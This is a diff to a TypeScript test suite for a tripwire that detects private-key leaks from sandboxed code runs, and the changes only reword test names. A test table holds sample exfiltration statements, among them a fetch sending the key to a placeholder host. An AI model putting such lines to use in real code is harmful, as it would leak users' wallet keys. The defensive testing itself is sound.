@@ -21,7 +21,7 @@ describe("the key tripwire", () => {
 
   const atOnce = (): Promise<void> => Promise.resolve();
 
-  it("finds any key in any of its forms, wherever it stands", async () => {
+  it("finds any key in any of its encodings, at any position", async () => {
     const bytes = (length: number) =>
       fc.uint8Array({ minLength: length, maxLength: length }).map((array) => Buffer.from(array));
     const around = fc.uint8Array({ maxLength: 5 }).map((array) => Buffer.from(array));
@@ -48,7 +48,7 @@ describe("the key tripwire", () => {
     );
   });
 
-  it("finds a key wherever it stands in a long body, every character of it escaped", async () => {
+  it("finds a key at any position in a long body, with every character escaped", async () => {
     const tripwire = watching(KEY);
     const escaped = [...KEY.slice(2)].map((letter) => `%${letter.charCodeAt(0).toString(16)}`).join("");
     for (const form of [KEY.slice(2), escaped, raw.toString("base64")]) {
@@ -62,7 +62,7 @@ describe("the key tripwire", () => {
     }
   });
 
-  it("looks through 10 MiB of the worst kind in slices of a few milliseconds", async () => {
+  it("scans 10 MiB of the worst case in slices of a few milliseconds", async () => {
     const tripwire = watching(KEY, ...Array.from({ length: 9 }, (_, i) => `0x${String(i).repeat(64)}`));
     const body = Buffer.alloc(10 * 2 ** 20, "%41-_");
     const found = { yes: true };
@@ -73,7 +73,7 @@ describe("the key tripwire", () => {
     expect(held).to.be.below(50);
   });
 
-  it("is not asked about a body that may not leave anyway", async () => {
+  it("does not scan a body that is refused anyway", async () => {
     const tripwire = watching(KEY);
     let looked = 0;
     tripwire.isIn = async () => (looked++, false);
@@ -95,7 +95,7 @@ describe("the key tripwire", () => {
     expect([answer.ok, looked]).to.deep.equal([false, 0]);
   });
 
-  it("does not fire at anything else", async () => {
+  it("does not match anything else", async () => {
     const tripwire = watching(KEY);
     const others = fc.uint8Array({ minLength: 32, maxLength: 64 }).map((array) => Buffer.from(array));
     await fc.assert(
@@ -109,7 +109,7 @@ describe("the key tripwire", () => {
     expect(await watching().isIn([KEY], atOnce)).to.equal(false);
   });
 
-  describe("in a run that was given a key", () => {
+  describe("in a run that got a key", () => {
     const ops = (call: OpCall) => ({
       ok: true as const,
       value: JSON.stringify(KEY),
@@ -135,7 +135,7 @@ describe("the key tripwire", () => {
       "in a fetch whose failure is caught": `try { await fetch("http://a.test/?" + key); } catch {} return 1;`,
     };
     for (const [where, statement] of Object.entries(leaks)) {
-      it(`${where}: key_exposed, nothing goes out`, async () => {
+      it(`${where}: key_exposed, nothing is sent`, async () => {
         const outcome = await run(`async function main() { console.log("logged"); ${read} ${statement} }`, { ops });
         expect(outcome).to.deep.include({ response: "null", logs: "" });
         expect(outcome.error?.code, JSON.stringify(outcome)).to.equal("key_exposed");
@@ -144,7 +144,7 @@ describe("the key tripwire", () => {
       });
     }
 
-    it("a run that only uses its key is not disturbed", async () => {
+    it("a run that only uses its key is not affected", async () => {
       const outcome = await run(
         `async function main() { ${read} console.log("used"); return new ethers.Wallet(key).address; }`,
         { ops },
@@ -153,7 +153,7 @@ describe("the key tripwire", () => {
       expect(outcome.logs).to.equal("used\n");
     });
 
-    it("an end by force is watched, too", async () => {
+    it("a forced end is scanned, too", async () => {
       const outcome = await run(`async function main() { ${read} console.log(key); for (;;); }`, {
         ops,
         limits: { wallMs: 300 },
